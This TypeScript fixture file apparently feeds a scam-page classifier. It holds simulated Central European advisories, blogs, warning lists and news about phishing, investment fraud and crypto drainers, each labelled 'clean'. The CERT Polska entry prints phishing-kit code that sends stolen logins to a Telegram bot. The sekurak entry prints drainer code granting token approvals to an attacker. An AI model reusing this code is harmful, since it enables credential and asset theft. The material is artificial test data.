import { type Entry } from '../entry.js';
import { site } from '../parts/yz-kit.js';
import { pe } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'yz-clean-cert-pl-olx-vinted-kampania',
  label: 'clean',
  kind: 'cert-advisory',
  url: 'https://cert.pl/posts/2025/10/kampania-olx-vinted-przesylka-telegram/',
  body: site({
    lang: 'pl',
    title: 'Kampania „Przesyłka OLX/Vinted” – panele operatorskie i Telegram | CERT Polska',
    brand: 'CERT Polska',
    color: '#1b1f3b',
    nav: ['Aktualności', 'Publikacje', 'Lista ostrzeżeń', 'Zgłoś incydent'],
    main: `<h1>Kampania „Przesyłka OLX/Vinted”: jak działają panele oszustów</h1>
<p>Od sierpnia obserwujemy wzrost liczby stron podszywających się pod usługi „Kup z przesyłką” serwisów ogłoszeniowych. Sprzedający otrzymuje na WhatsAppie link do strony, na której rzekomo „odbiera środki” – w rzeczywistości podaje dane karty lub loguje się do fałszywej bankowości.</p>
<h2>Schemat</h2><ol><li>Fałszywy kupujący pisze poza platformą i wysyła link.</li><li>Strona wyświetla kwotę oraz listę banków.</li><li>Dane trafiają na czat Telegram lub do panelu operatora w czasie rzeczywistym (WebSocket). Operator decyduje, czy wyświetlić ofierze prośbę o kod SMS, czy o zatwierdzenie w aplikacji.</li></ol>
<h2>Fragment kodu zestawu phishingowego</h2>
<pre>function tg(msg){var u='https://api.telegram.org/bot'+TOKEN+'/sendMessage';
  return fetch(u,{method:'POST',headers:{'Content-Type':'application/json'},
    body:JSON.stringify({chat_id:CHAT,text:msg,parse_mode:'HTML'})})}
document.getElementById('f1').onsubmit = ... tg('LOGIN '+login+' PASS: '+pass) ...</pre>
<h2>Przykładowe domeny (IoC)</h2>
<pre>olx.pl-dostawa-bezpieczna[.]com
xn--vintd-2we[.]pl  (vintеd.pl – cyrylica „е”)
allegrolokalnie.pl-oferta-482913[.]site
inpost-pl.paczkomat-doplata[.]info</pre>
<p>Domeny z kampanii trafiają na <a href="https://hole.cert.pl/">Listę ostrzeżeń przed niebezpiecznymi stronami</a>. Podejrzane SMS-y przesyłaj na numer <b>8080</b>.</p>`,
    footer: 'CERT Polska · NASK – Państwowy Instytut Badawczy',
  }),
},
{
  id: 'yz-clean-police-hu-mol-befektetesi-csalas',
  label: 'clean',
  kind: 'police-advisory',
  url: 'https://www.police.hu/hu/hirek-es-informaciok/bunmegelozes/online-befektetesi-csalasok-mol',
  body: site({
    lang: 'hu',
    title: 'Online befektetési csalások – hamis MOL-hirdetések | police.hu',
    brand: 'Rendőrség',
    color: '#1d3b6f',
    nav: ['Hírek', 'Bűnmegelőzés', 'Ügyintézés'],
    main: `<h1>Hamis befektetési hirdetésekkel csalnak ki milliókat</h1>
<p>Az elmúlt hónapokban megszaporodtak azok az internetes hirdetések, amelyek ismert magyar cégek (MOL, Richter, OTP) vagy közszereplők nevével hirdetnek „nemzeti befektetési programot”. A hirdetés egy hamis hírportálra vezet, ahol egy interjúban egy híresség „elárulja” a gazdagodás titkát.</p>
<blockquote>„Fektessen be 100 000 Ft-ot, és kapjon havi 1,2 millió Ft passzív jövedelmet” – így szól az egyik hirdetés szövege.</blockquote>
<p>A regisztráció után „tanácsadó” hívja a sértettet, távoli hozzáférést biztosító programot telepíttet vele, majd egyre nagyobb összegek befizetésére veszi rá.</p>
<p>Tanácsunk: ellenőrizze a szolgáltatót az MNB honlapján, és soha ne telepítsen távvezérlő alkalmazást ismeretlen kérésére.</p>`,
    footer: 'ORFK Kommunikációs Szolgálat',
  }),
},
{
  id: 'yz-clean-niebezpiecznik-bezpieczne-konto-transkrypt',
  label: 'clean',
  kind: 'security-blog',
  url: 'https://niebezpiecznik.pl/post/nagranie-oszusta-bezpieczne-konto-departament-bezpieczenstwa/',
  body: site({
    lang: 'pl',
    title: 'Posłuchajcie, jak oszust prowadzi ofiarę krok po kroku do „bezpiecznego konta” – Niebezpiecznik.pl',
    brand: 'Niebezpiecznik',
    color: '#222',
    nav: ['Artykuły', 'Szkolenia', 'Kontakt'],
    main: `<h1>Posłuchajcie, jak oszust prowadzi ofiarę do „bezpiecznego konta”</h1>
<p>Czytelnik przesłał nam nagranie rozmowy i link, który dostał w trakcie rozmowy SMS-em. Strona wyglądała jak panel „Departamentu Bezpieczeństwa Transakcji” i zawierała „numer sprawy”, zdjęcie „opiekuna” oraz numer rachunku technicznego.</p>
<h2>Transkrypt (fragment)</h2>
<pre>– Pani Ewo, ja pani teraz wyślę link do sprawy, żeby pani widziała, że to oficjalna procedura.
– Widzę, jest tu napisane „rachunek techniczny PL 27 1020...”.
– Dokładnie. Proszę teraz przelać wszystkie środki, także z lokaty. Jeżeli bank zablokuje przelew,
  proszę pojechać do wpłatomatu Bitcoin, ja poprowadzę.</pre>
<p>Żaden bank nie ma „rachunków technicznych” dla klientów. Jeśli ktoś każe Ci się nie rozłączać i nie mówić nic pracownikom oddziału – to oszust.</p>
<p>Zobacz też: <a href="/post/anydesk-na-prosbe-banku/">„Zainstaluj AnyDesk, sprawdzimy komputer” – dlaczego to zawsze oszustwo</a>.</p>`,
    footer: 'Niebezpiecznik.pl · Ochrona przed cyberzagrożeniami',
  }),
},
{
  id: 'yz-clean-coi-rizikove-eshopy-seznam',
  label: 'clean',
  kind: 'consumer-authority-list',
  url: 'https://www.coi.cz/pro-spotrebitele/rizikove-e-shopy/?strana=3',
  body: site({
    lang: 'cs',
    title: 'Seznam rizikových e-shopů | Česká obchodní inspekce',
    brand: 'Česká obchodní inspekce',
    color: '#003b73',
    nav: ['Pro spotřebitele', 'Pro podnikatele', 'Tiskové zprávy'],
    main: `<h1>Seznam rizikových e-shopů</h1>
<p>ČOI zveřejňuje e-shopy, u nichž obdržela opakované stížnosti: zboží nebylo dodáno, provozovatel nelze identifikovat, platba je možná pouze převodem na účet fyzické osoby, nebo jde o „likvidace skladu“ se slevami přes 70 %.</p>
<table><tr><th>Doména</th><th>Důvod zařazení</th><th>Datum</th></tr>
<tr><td>zahradni-technika-likvidace.cz.shop-outlet.top</td><td>nedodání zboží, platba jen převodem</td><td>09.10.2025</td></tr>
<tr><td>sekacky-vyprodej-cz.shop</td><td>neidentifikovatelný provozovatel</td><td>02.10.2025</td></tr>
<tr><td>dyson-outlet-cz.store</td><td>padělky, neexistující reklamační adresa</td><td>28.09.2025</td></tr></table>
<p>Než zaplatíte převodem, zkontrolujte IČO v obchodním rejstříku a recenze mimo samotný e-shop.</p>`,
    footer: 'Česká obchodní inspekce · Štěpánská 15, Praha 2',
  }),
},
{
  id: 'yz-clean-sekurak-drainer-analiza-kod',
  label: 'clean',
  kind: 'security-blog',
  url: 'https://sekurak.pl/analiza-draineru-airdrop-plnx-setapprovalforall-permit2/',
  body: site({
    lang: 'pl',
    title: 'Analiza draineru z „polskiego airdropu”: setApprovalForAll, permit i Permit2 – sekurak',
    brand: 'sekurak',
    color: '#b3001b',
    nav: ['Artykuły', 'Szkolenia', 'Książka'],
    main: `<h1>Rozbieramy drainer z „polskiego airdropu” PLNX</h1>
<p>Strona obiecywała 2 500 tokenów PLNX dla „polskiej społeczności”. Po kliknięciu „Połącz portfel” skrypt pyta backend o zawartość portfela i po kolei wysyła prośby o podpis. Kluczowy fragment (skrócony):</p>
<pre>const SP = '0x3f9A…e0D9';            // adres atakującego
for (const c of inv.nfts)
  await rq('eth_sendTransaction', [{from: acc, to: c,
    data: '0xa22cb465' + p32(SP) + p32('1')}]);   // setApprovalForAll(SP, true)
for (const t of inv.tokens)
  await rq('eth_sendTransaction', [{from: acc, to: t.address,
    data: '0x095ea7b3' + p32(SP) + 'f'.repeat(64)}]); // approve(SP, MAX)</pre>
<p>Selektor <code>0xa22cb465</code> to <code>setApprovalForAll(address,bool)</code>, a <code>0x095ea7b3</code> to <code>approve(address,uint256)</code> z maksymalną kwotą. Dalej drainer próbuje podpisu <code>eth_signTypedData_v4</code> typu <code>Permit</code> – ten nie kosztuje gazu i portfel często pokazuje go jako „zwykłą wiadomość”.</p>
<h2>Jak się chronić</h2><ul><li>Czytaj, co podpisujesz – „Permit”, „PermitBatch”, „setApprovalForAll” oznaczają oddanie kontroli nad aktywami.</li><li>Regularnie przeglądaj i odwołuj uprawnienia (np. revoke.cash).</li><li>Żadne airdropy nie wymagają podania frazy seed.</li></ul>`,
    footer: 'sekurak.pl · Securitum',
  }),
},
{
  id: 'yz-clean-intranet-helpdesk-teams-cache-winr',
  label: 'clean',
  kind: 'it-helpdesk-article',
  url: 'https://helpdesk.intranet.grupa-azoty-logistyka.pl/kb/teams-wyczysc-pamiec-podreczna',
  body: site({
    lang: 'pl',
    title: 'KB0142: Microsoft Teams – czyszczenie pamięci podręcznej | Helpdesk IT',
    brand: 'Helpdesk IT',
    color: '#34495e',
    nav: ['Baza wiedzy', 'Zgłoszenia', 'Status usług'],
    main: `<h1>KB0142: Teams nie wyświetla czatów lub mikrofonu – wyczyść pamięć podręczną</h1>
<p><b>Dotyczy:</b> nowego Microsoft Teams na laptopach służbowych (Windows 11). <b>Nie wymaga</b> uprawnień administratora.</p>
<ol><li>Zamknij Teams (prawy klik na ikonie w zasobniku → Zakończ).</li>
<li>Naciśnij <kbd>Win</kbd> + <kbd>R</kbd>, wklej poniższe polecenie i naciśnij <kbd>Enter</kbd>:</li></ol>
<pre id="cmd">powershell -NoProfile -Command "Remove-Item -Recurse -Force \\"$env:LOCALAPPDATA\\Packages\\MSTeams_8wekyb3d8bbwe\\LocalCache\\Microsoft\\MSTeams\\*\\""</pre>
<p><button class="btn" id="cp">Kopiuj polecenie</button></p>
<ol start="3"><li>Uruchom Teams ponownie. Pierwsze uruchomienie może potrwać do 2 minut.</li></ol>
<p style="background:#fff4e5;padding:10px"><b>Uwaga bezpieczeństwa:</b> polecenia z tej bazy wiedzy kopiuj tylko z adresu helpdesk.intranet. Żadna strona internetowa ani „CAPTCHA” nie powinna prosić o wklejanie poleceń w okno Uruchom – takie przypadki zgłaszaj na security@.</p>`,
    footer: 'Dział IT · wew. 4400 · Zgłoszenia: helpdesk.intranet/zgloszenia',
    tail: `<script>document.getElementById('cp').onclick=function(){navigator.clipboard.writeText(document.getElementById('cmd').textContent).then(function(){document.getElementById('cp').textContent='Skopiowano'})};</script>`,
  }),
},
{
  id: 'yz-clean-knf-lista-ostrzezen-publicznych',
  label: 'clean',
  kind: 'regulator-warning-list',
  url: 'https://www.knf.gov.pl/dla_konsumenta/ostrzezenia_publiczne?kategoria=inwestycje&str=2',
  body: site({
    lang: 'pl',
    title: 'Lista ostrzeżeń publicznych KNF',
    brand: 'Komisja Nadzoru Finansowego',
    color: '#002d62',
    nav: ['O nas', 'Dla konsumenta', 'Dla rynku', 'Komunikaty'],
    main: `<h1>Lista ostrzeżeń publicznych</h1>
<p>Na liście znajdują się podmioty, wobec których KNF złożyła zawiadomienie do prokuratury w związku z podejrzeniem prowadzenia działalności bez wymaganego zezwolenia.</p>
<table><tr><th>Nazwa</th><th>Strona internetowa</th><th>Data wpisu</th></tr>
<tr><td>Lucrum Edge AI</td><td>lucrum-edge-ai.com</td><td>10.10.2025</td></tr>
<tr><td>Quantum Trade Pro Ltd</td><td>quantumtradepro.io</td><td>03.10.2025</td></tr>
<tr><td>„Program Inwestycyjny Orlen 2025”</td><td>różne domeny, reklamy w mediach społecznościowych</td><td>22.09.2025</td></tr></table>
<p>Reklamy z wizerunkiem znanych osób zachęcające do inwestycji z gwarantowanym zyskiem to niemal zawsze oszustwo. Sprawdź firmę w <a href="/podmioty/wyszukiwarka_podmiotow">wyszukiwarce podmiotów nadzorowanych</a>.</p>`,
    footer: 'Urząd Komisji Nadzoru Finansowego · ul. Piękna 20, Warszawa',
  }),
},
{
  id: 'yz-clean-digi24-hidroelectrica-reclame-false',
  label: 'clean',
  kind: 'news-article',
  url: 'https://www.digi24.ro/stiri/economie/reclame-false-hidroelectrica-investitii-1.200-lei-teapa-3371204',
  body: site({
    lang: 'ro',
    title: 'Reclamele false cu „investiții în Hidroelectrica de la 1.200 lei” au păcălit sute de români | Digi24',
    brand: 'Digi24',
    color: '#d71f26',
    nav: ['Actualitate', 'Economie', 'Externe', 'Sport'],
    main: `<h1>Reclamele false cu „investiții în Hidroelectrica de la 1.200 lei” au păcălit sute de români</h1>
<p>Hidroelectrica a transmis că nu are niciun program de investiții pentru persoane fizice și că reclamele care circulă pe rețelele sociale sunt false. Anunțurile promit: <i>„Cu doar 1.200 lei investiți în acțiunile Hidroelectrica puteți obține un venit pasiv de peste 15.000 lei pe lună.”</i></p>
<p>Victimele completează un formular cu numele și telefonul, apoi sunt sunate de un „consultant” care le cere să instaleze AnyDesk și să depună bani pe o platformă de tranzacționare. Una dintre victime, din Iași, a pierdut 87.000 de lei.</p>
<p>DNSC și Poliția Română recomandă verificarea oricărei platforme pe site-ul ASF.</p>`,
    footer: '© Digi24 HD',
  }),
},
];
